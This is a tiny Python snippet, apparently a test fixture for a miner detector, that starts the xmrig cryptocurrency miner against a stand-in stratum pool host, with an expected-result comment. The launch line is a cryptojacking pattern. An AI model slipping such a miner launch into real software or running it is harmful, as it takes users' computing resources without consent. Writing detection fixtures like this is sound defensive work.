import subprocess

subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.invalid:3333"])  # expect: source/miner import conclusive
